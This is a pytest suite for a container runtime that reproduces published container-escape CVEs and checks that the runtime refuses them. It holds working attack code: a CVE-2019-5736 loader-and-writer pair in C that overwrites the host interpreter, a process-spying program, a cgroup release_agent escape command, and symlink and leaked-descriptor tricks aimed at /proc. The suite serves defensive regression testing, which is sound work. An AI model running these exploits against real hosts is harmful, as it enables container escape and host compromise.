"""Published attacks on container runtimes, tried."""

import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from bundle import DEFAULT_CAPABILITIES, Box, config, mount

from wherry.errors import InvalidArgument, WherryError
from wherry.kernel import processes
from wherry.runtime.launch import drive
from wherry.runtime.mounting import Bind
from wherry.runtime.options import BENEATH, parse

pytestmark = pytest.mark.root


def compile_c(scratch: Path, target: Path, source: str, *flags: str) -> None:
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc")
    (scratch / "source.c").write_text(source)
    target.parent.mkdir(exist_ok=True, parents=True)
    subprocess.run(["gcc", "-O2", "-w", *flags, "-o", target, scratch / "source.c"], check=True)


def test_volume_swapped_for_a_link_stays_inside(box: Box, tmp_path: Path) -> None:
    """CVE-2021-30465: a mount's destination goes through a link another container controls."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (box.rootfs / "evil").symlink_to(f"../../../../../../../../..{outside}")
    (box.rootfs / "absolute").symlink_to(outside)
    data = tmp_path / "data"
    (data / "sub").mkdir(parents=True)
    document = config("sh", "-c", "true")
    for link in ("evil", "absolute"):
        document["mounts"].append(mount(f"/{link}/made", "bind", "rbind", source=str(data)))
        document["mounts"].append(mount(f"/{link}/tmp", "tmpfs"))
    with pytest.raises(WherryError):
        box.output(document)
    assert list(outside.iterdir()) == []


def test_links_are_followed_inside_the_root(box: Box, tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "f").write_text("inside")
    (box.rootfs / "real").mkdir()
    (box.rootfs / "link").symlink_to("/real")
    document = config("cat", "/real/sub/f")
    document["mounts"].append(mount("/link/sub", "bind", "rbind", source=str(tmp_path / "data")))
    assert box.output(document) == "inside"


@pytest.mark.parametrize("name", ["proc", "sys"])
def test_proc_and_sys_behind_links_are_refused(box: Box, name: str) -> None:
    """CVE-2019-19921, CVE-2025-52881: what is written to /proc must be the kernel's."""
    directory = box.rootfs / name
    if directory.exists():
        directory.rmdir()
    (box.rootfs / "fake").mkdir()
    directory.symlink_to("/fake")
    with pytest.raises(InvalidArgument, match="can only be mounted on a directory"):
        box.run("true")


def test_nothing_is_mounted_over_proc(box: Box, tmp_path: Path) -> None:
    (tmp_path / "fake").write_text("fake")
    document = config("true")
    for target in ("/proc/self/attr/exec", "/proc/sys/kernel/core_pattern", "/link/version"):
        document["mounts"][7:] = [mount(target, "bind", "bind", source=str(tmp_path / "fake"))]
        if target.startswith("/link"):
            (box.rootfs / "link").symlink_to("/proc")
        with pytest.raises(InvalidArgument, match="inside /proc"):
            box.output(document)


def test_masks_do_not_use_the_images_null(box: Box, tmp_path: Path) -> None:
    """CVE-2025-31133: with /dev/null of the container a link, masking would bind its target over the path."""
    document = config("sh", "-c", "wc -c </proc/timer_list; ls -l /dev/null")
    document["mounts"] = [m for m in document["mounts"] if not m["destination"].startswith("/dev")]
    (box.rootfs / "dev").mkdir(exist_ok=True)
    (box.rootfs / "dev" / "null").unlink(missing_ok=True)
    (box.rootfs / "dev" / "null").symlink_to("/proc/sys/kernel/core_pattern")
    # What stands where a device should is refused, before anything is masked.
    with pytest.raises(InvalidArgument, match="not the device asked for"):
        box.output(document)


def test_console_over_a_link(box: Box) -> None:
    """CVE-2025-52565: /dev/console or /dev/pts/ptmx as links must not lead the terminal elsewhere."""
    document = config("sh", "-c", "tty", terminal=True)
    document["mounts"] = [m for m in document["mounts"] if not m["destination"].startswith("/dev")]
    (box.rootfs / "dev" / "pts").mkdir(parents=True, exist_ok=True)
    (box.rootfs / "dev" / "pts" / "ptmx").write_text("a file of the image's")
    with pytest.raises(WherryError, match="not on the file system its path promises"):
        box.start(document)


def test_release_agent_cannot_be_set(box: Box) -> None:
    """CVE-2022-0492: cgroup v1's release_agent runs a program of the container's choice on the host."""
    attempt = "for f in /sys/fs/cgroup/*/release_agent; do echo /x >$f && echo ESCAPED; done 2>/dev/null; "
    attempt += "mkdir -p /tmp/c; mount -t cgroup -o memory none /tmp/c 2>/dev/null && echo MOUNTED; "
    attempt += "unshare -Ur mount -t cgroup -o memory none /tmp/c 2>/dev/null && echo NESTED; echo done"
    assert box.run("sh", "-c", attempt) == "done\n"


def _is_inside_or_refused(run: Callable[[str], str], cwd: str) -> bool:
    try:
        return run(cwd) in ("/\n", "/dev\n")
    except WherryError:
        return True


def test_working_directory_by_a_leaked_descriptor(box: Box) -> None:
    """CVE-2024-21626: /proc/self/fd/N as working directory, where N is a directory of the host."""
    leaked = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.set_inheritable(leaked, True)
    (box.rootfs / "way").symlink_to(f"/proc/self/fd/{leaked}")
    try:
        for cwd in ("/way", *(f"/proc/self/fd/{number}" for number in range(3, leaked + 1))):
            assert _is_inside_or_refused(lambda cwd: box.run("pwd", cwd=cwd), cwd)
        assert box.run("ls", "/proc/self/fd").split() == ["0", "1", "2", "3"]  # 3 is ls reading it
        identifier, launched = box.start(config("sleep", "60"))
        for cwd in ("/way", *(f"/proc/self/fd/{number}" for number in range(3, leaked + 1))):
            assert _is_inside_or_refused(lambda cwd: box.exec(identifier, "pwd", cwd=cwd), cwd)
        assert box.exec(identifier, "ls", "/proc/self/fd").split() == ["0", "1", "2", "3"]
        drive(box.runtime.delete(identifier, force=True))
        os.waitpid(launched.process.pid, 0)
    finally:
        os.close(leaked)


_SPY_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>
/* Looks at every other process of the container as fast as it can, until one named "end" has run. */
int main(void) {
  char path[300], target[300];
  int self = getpid();
  write(1, "ready\n", 6);
  for (;;) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(proc))) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == self) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n > 0) {
        target[n] = 0;
        if (strstr(target, "python")) { printf("EXE %s\n", target); fflush(stdout); }
        if (strstr(target, "/end")) { printf("end\n"); fflush(stdout); return 0; }
      }
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      DIR *fds = opendir(path);
      if (fds) {
        struct dirent *fd;
        while ((fd = readdir(fds))) {
          int number = atoi(fd->d_name);
          if (number < 3) continue;
          snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
          n = readlink(path, target, sizeof target - 1);
          if (n > 0) { target[n] = 0; printf("FD %s\n", target); fflush(stdout); }
        }
        closedir(fds);
      }
    }
    closedir(proc);
  }
}
"""


@pytest.mark.parametrize("ptrace", [False, True])
def test_exec_cannot_be_caught_before_it_gives_up_our_privileges(box: Box, tmp_path: Path, ptrace: bool) -> None:
    """CVE-2016-9962: the container's root lays in wait for the runtime's process as it joins."""
    compile_c(tmp_path, box.rootfs / "bin/spy", _SPY_C, "-static")
    end = "#include <unistd.h>\nint main(void) { sleep(2); return 0; }"
    compile_c(tmp_path, box.rootfs / "bin/end", end, "-static")
    capabilities = [*DEFAULT_CAPABILITIES, *(["CAP_SYS_PTRACE"] if ptrace else [])]
    sets = dict.fromkeys(("bounding", "effective", "permitted"), capabilities)
    reading, writing = os.pipe()
    processes.prctl(processes.PR_SET_DUMPABLE, 0)
    try:
        identifier, launched = box.start(config("spy", capabilities=sets), (-1, writing, -1))
        os.close(writing)
        with os.fdopen(reading) as output:
            assert output.readline() == "ready\n"
            for _ in range(30):
                assert box.exec(identifier, "true", capabilities=sets) == ""
            running = drive(box.runtime.exec(identifier, "end", config("end")["process"], (-1, -1, -1)))
            seen = output.read()
    finally:
        processes.prctl(processes.PR_SET_DUMPABLE, 1)
    os.kill(running.process.pid, signal.SIGKILL)
    os.waitpid(running.process.pid, 0)
    os.close(running.pidfd)
    box.wait(identifier, launched)
    if ptrace:
        # It may look at a process that has only what it has itself; never at one with a descriptor of the host's.
        held = {line[3:].partition(":")[0] for line in seen.splitlines() if line.startswith("FD")}
        assert held <= {"socket", "pipe", "/dev/null"}
    else:
        assert seen == "end\n"


_LOADER_C = r"""
/* Stands in the container where the interpreter looks for its dynamic loader, and so runs in its place. */
static long call(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
void _start(void) {
  static const char exe[] = "/proc/self/exe", writer[] = "/bin/writer";
  const char *arguments[] = {writer, 0};
  long fd = call(2, (long)exe, 0, 0);
  call(33, fd, 9, 0);
  call(59, (long)writer, (long)arguments, 0);
  call(60, 1, 0, 0);
}
"""
_WRITER_C = r"""
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
/* Writes to what descriptor 9 is, as soon as nobody executes it. */
int main(void) {
  for (int i = 0; i < 4000; i++) {
    int fd = open("/proc/self/fd/9", O_WRONLY);
    if (fd >= 0) { puts(write(fd, "PWNED", 5) == 5 ? "overwritten" : strerror(errno)); return 0; }
    if (errno != ETXTBSY) { puts(strerror(errno)); return 0; }
    usleep(1000);
  }
  puts("still busy");
  return 0;
}
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack is written for x86_64")
@pytest.mark.parametrize("entry", ["link", "script"])
@pytest.mark.parametrize("how", ["bare", "mount", "memory"])
def test_interpreter_cannot_be_overwritten(box: Box, tmp_path: Path, entry: str, how: str) -> None:
    """CVE-2019-5736: executing /proc/self/exe runs what forked the container, and gives its file to the container.

    "bare" is the proof that the attack works where nothing is done against it.
    """
    compile_c(tmp_path, box.rootfs / "lib64/ld-linux-x86-64.so.2", _LOADER_C, "-nostdlib", "-static-pie", "-fPIE")
    compile_c(tmp_path, box.rootfs / "bin/writer", _WRITER_C, "-static")
    if entry == "link":
        (box.rootfs / "attack").symlink_to("/proc/self/exe")
    else:
        box.script("attack", "#!/proc/self/exe\n")
    interpreter = tmp_path / "python"
    shutil.copy(os.path.realpath(sys.executable), interpreter)
    original = interpreter.read_bytes()
    if b"/lib64/ld-linux-x86-64.so.2" not in original:
        pytest.skip("the interpreter has another loader")
    identifier = box.new_id()
    box.write(config("/attack"), identifier)
    probe = Path(__file__).with_name("sealed_probe.py")
    command = [interpreter, "-I", "-S", probe, how, box.runtime.root, identifier, box.path / "bundle"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)
    assert done.stderr == ""
    if how == "bare":
        assert done.stdout == "overwritten\n"
        assert interpreter.read_bytes()[:5] == b"PWNED"
    else:
        assert done.stdout in ("Read-only file system\n", "Operation not permitted\n")
        assert interpreter.read_bytes() == original


def test_a_part_of_a_volume_is_found_by_nobodys_links(tmp_path: Path) -> None:
    """Like CVE-2021-30465, of the source: a container of the same volume chooses where its links lead."""
    (tmp_path / "in" / "side").mkdir(parents=True)
    (tmp_path / "out").symlink_to("/etc")
    (tmp_path / "up").symlink_to("../..")
    for part, found in (("in/side", True), ("out", False), ("up", False), ("out/ssl", False)):
        bind = Bind(str(tmp_path), "/x", parse(["rbind", BENEATH + part]))
        if found:
            os.close(bind.open_tree())
        else:
            with pytest.raises(OSError, match="cross-device"):
                bind.open_tree()
